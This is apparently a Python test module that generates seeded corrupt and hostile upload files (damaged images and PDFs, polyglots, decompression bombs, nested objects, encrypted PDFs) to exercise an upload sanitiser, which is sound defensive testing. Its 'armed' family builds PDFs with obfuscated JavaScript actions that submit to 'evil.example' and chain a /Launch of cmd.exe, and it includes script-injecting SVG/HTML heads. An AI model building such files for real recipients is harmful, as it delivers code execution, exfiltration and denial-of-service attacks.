"""Uploads that mean ill, or that a phone, a cable or a cheap scanner has spoilt. The dice fall the same every time."""

import random
import struct
import zipfile
import zlib
from io import BytesIO
from itertools import cycle, islice

import pikepdf
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from tests.providers.credentials.files import HEIC, armed_pdf, locked_pdf, pdf, saved

SCRIPT = "app.alert('boo'); this.submitForm('http://evil.example/');"
# One and the same name, as readers of PDF understand it.
JAVASCRIPT = ["/JavaScript", "/J#61vaScript", "/#4a#61#76#61#53#63#72#69#70#74", "/JavaScri#70t"]
JS = ["/JS", "/#4aS", "/J#53", "/#4a#53"]
ACTIONS = ["/OpenAction", "/Open#41ction", "/AA", "/A#41"]
PLACES = ["catalog", "pages", "page", "resources", "xobject", "state", "annotation", "outline", "field", "names"]


def cases(count, seed=2026):
    """Yields (family, content): every family in turn, each time with other dice."""
    chance = random.Random(seed)
    bases = all_bases()
    families = list(FAMILIES.items())
    for name, make in islice(cycle(families), count):
        yield name, bytes(make(chance, bases))


def all_bases():
    pdfs = [pdf(), pdf(3), armed_pdf(), armed_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)]
    pdfs.append(armed_pdf(linearize=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False))
    pdfs.append(armed_pdf(encryption=pikepdf.Encryption(owner="insurer", user="")))
    return {"pdf": pdfs, "picture": [*photos(), HEIC]}


def photos():
    """With everything in them that tells of somebody."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "A phone", 6
    exif.get_ifd(0x8825)[2] = (51.0, 22.0, 53.0)
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    image = Image.effect_noise((160, 120), 60).convert("RGB")
    text = PngInfo()
    text.add_text("Comment", "Jo's house")
    yield saved(image, "JPEG", exif=exif, comment=b"Jo's house", icc_profile=profile)
    yield saved(image.convert("CMYK"), "JPEG", progressive=True)
    yield saved(image, "PNG", exif=exif, icc_profile=profile, pnginfo=text)
    yield saved(image.convert("P"), "PNG")
    yield saved(image.convert("RGBA"), "PNG")


def any_of(chance, bases):
    return chance.choice(bases["pdf"] if chance.random() < 0.6 else bases["picture"])


def flipped(chance, bases):
    content = bytearray(any_of(chance, bases))
    for _ in range(chance.choice([1, 1, 2, 5, 30])):
        content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
    return content


def truncated(chance, bases):
    content = any_of(chance, bases)
    return content[: chance.randrange(len(content))]


def spliced(chance, bases):
    first, second = any_of(chance, bases), any_of(chance, bases)
    return first[: chance.randrange(len(first))] + second[chance.randrange(len(second)) :]


def shuffled(chance, bases):
    """A piece left out, sent twice, or filled with noise."""
    content = any_of(chance, bases)
    start = chance.randrange(len(content))
    piece = content[start : start + chance.randrange(1, 200)]
    filled = chance.choice([b"", piece * 2, chance.randbytes(len(piece)), bytes(len(piece))])
    return content[:start] + filled + content[start + len(piece) :]


HEADS = [
    *(b"%PDF-1.7\n", b"%PDF-9.9\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"\0\0\0\x18ftypheic", b"GIF89a"),
    *(
        b"II*\0",
        b"MM\0*",
        b"RIFF\0\0\0\0WEBP",
        b"PK\x03\x04",
        b"<html>",
        b"<svg onload=alert(1)>",
        b"BM",
        b"\0\0\0\x18ftypavif",
    ),
]


def with_another_head(chance, bases):
    content = any_of(chance, bases)
    head = chance.choice(HEADS)
    return head + (content if chance.random() < 0.5 else content[len(head) :])


def polyglot(chance, bases):
    """Two files in one."""
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as written:
        written.writestr("run.exe", b"MZ" + chance.randbytes(20))
    page = b"<html><script>alert(1)</script>"
    parts = [chance.choice(bases["pdf"]), chance.choice(bases["picture"]), archive.getvalue(), page]
    chance.shuffle(parts)
    return b"".join(parts[: chance.choice([2, 3])])


def huge(chance, bases):
    """Few bytes that claim to be very much."""
    side = chance.choice([0, 1, 7_900, 8_100, 30_000, 65_535, 2**31 - 1])
    if chance.random() < 0.5:
        head = struct.pack(">IIBBBBB", side, chance.choice([1, side]), chance.choice([1, 8, 16]), 2, 0, 0, 0)
        chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(chance.randrange(1, 50_000)))), (b"IEND", b"")]
        return b"\x89PNG\r\n\x1a\n" + b"".join(
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
            for kind, data in chunks
        )
    zeros = zlib.compress(bytes(chance.choice([10, 1_000_000, 80_000_000])))
    box = chance.choice(["0 0 1e30 1e30", f"0 0 {side} {side}", "1 1 1 1", "(a) 0 0 0", "-5 -5 -1 -1"])
    stream = f"<</Length {len(zeros)}/Filter{chance.choice(['/FlateDecode', '[/FlateDecode/FlateDecode]'])}>>"
    return raw_pdf({4: stream.encode() + b"\nstream\n" + zeros + b"\nendstream"}, f"/MediaBox[{box}]/Contents 4 0 R")


def nested(chance, bases):
    """Objects in objects in objects, and trees that go round in circles."""
    deep = chance.choice([10, 90, 120, 600, 20_000])
    inside = chance.choice([("[", "]"), ("<</A", ">>"), ("<</Kids[", "]>>")])
    extra = {5: (inside[0] * deep + " 1 " + inside[1] * deep).encode()}
    kids = chance.choice(["3 0 R", "2 0 R 3 0 R", "3 0 R " * 150, "3 0 R 9 0 R", "5 0 R", "(x) 3 0 R", ""])
    return raw_pdf(extra, "/Extra 5 0 R/Resources 5 0 R", kids=kids)


def armed(chance, bases):
    """A script in one of the places where readers look for one, spelt in one of the ways that they understand."""
    text = chance.choice(
        [
            f"({SCRIPT.replace('(', '').replace(')', '')})",
            f"<{SCRIPT.encode().hex()}>",
            f"<feff{SCRIPT.encode('utf-16-be').hex()}>",
            "(" + "".join(f"\\{ord(letter):03o}" for letter in SCRIPT) + ")",
            "8 0 R",
        ]
    )
    act = f"<</S{chance.choice(JAVASCRIPT)}{chance.choice(JS)} {text}/Next<</S/Launch/F(cmd.exe)>>>>"
    action = f"{chance.choice(ACTIONS)} {chance.choice([act, '7 0 R', f'<</O {act}/C 7 0 R>>'])}"
    script = f"<</Length {len(SCRIPT)}>>\nstream\n{SCRIPT}\nendstream".encode()
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 2%s>>\nstream\nq\n\nendstream"
    put = {place: action if place == chance.choice(PLACES) or chance.random() < 0.2 else "" for place in PLACES}
    objects = {
        4: form % put["xobject"].encode(),
        6: f"<</Type/ExtGState{put['state']}>>".encode(),
        7: act.encode(),
        8: script,
        9: f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {act}{put['annotation']}>>".encode(),
        10: f"<</Title(x)/A 7 0 R{put['outline']}>>".encode(),
        11: f"<</T(f)/FT/Tx/V(x){put['field']}>>".encode(),
    }
    page = (
        f"/Annots[9 0 R]/Resources<</XObject<</X 4 0 R>>/ExtGState<</G 6 0 R>>{put['resources']}>>"
        f"/Group<</S/Transparency/X {act}>>{put['page']}"
    )
    catalog = (
        f"/Outlines<</First 10 0 R>>/AcroForm<</Fields[11 0 R]/XFA 8 0 R>>{put['catalog']}"
        f"/Names<<{chance.choice(JAVASCRIPT)}<</Names[(x) 7 0 R]>>{put['names']}>>"
    )
    return raw_pdf(objects, page, catalog=catalog, pages=put["pages"])


def raw_pdf(objects, page="", *, kids="3 0 R", catalog="", pages=""):
    """Written by hand and without a table of contents, as readers mend it silently."""
    written = {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        2: f"<</Type/Pages/Count 1/Kids[{kids}]/MediaBox[0 0 99 99]{pages}>>".encode(),
        3: f"<</Type/Page/Parent 2 0 R{page}>>".encode(),
        **objects,
    }
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in written.items())
    return b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R/Size 12>>\n%%EOF\n"


def locked(chance, bases):
    revision = chance.choice([2, 3, 4, 6])
    user = chance.choice(["", "", "secret"])
    lock = pikepdf.Encryption(owner="insurer", user=user, R=revision, aes=revision >= 4, metadata=revision >= 4)
    content = bytearray(chance.choice([armed_pdf, lambda **save: pdf(2, **save)])(encryption=lock))
    if chance.random() < 0.3:
        content[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
    return content if chance.random() < 0.9 else locked_pdf()


def not_still(chance, bases):
    """Kinds of picture that are none of ours, and such as move."""
    image = Image.new("RGB", (20, 20), chance.choice(["red", "blue"]))
    form = chance.choice(["GIF", "TIFF", "BMP", "WEBP", "ICO", "PNG", "AVIF", "JPEG2000"])
    more = {"save_all": True, "append_images": [Image.new("RGB", (20, 20))]} if form in ("GIF", "PNG", "WEBP") else {}
    return saved(image, form, **more)


FAMILIES = {
    "flipped bits": flipped,
    "truncated": truncated,
    "spliced": spliced,
    "shuffled": shuffled,
    "another head": with_another_head,
    "polyglot": polyglot,
    "huge": huge,
    "nested": nested,
    "armed": armed,
    "locked": locked,
    "not still": not_still,
    "flipped again": flipped,
}
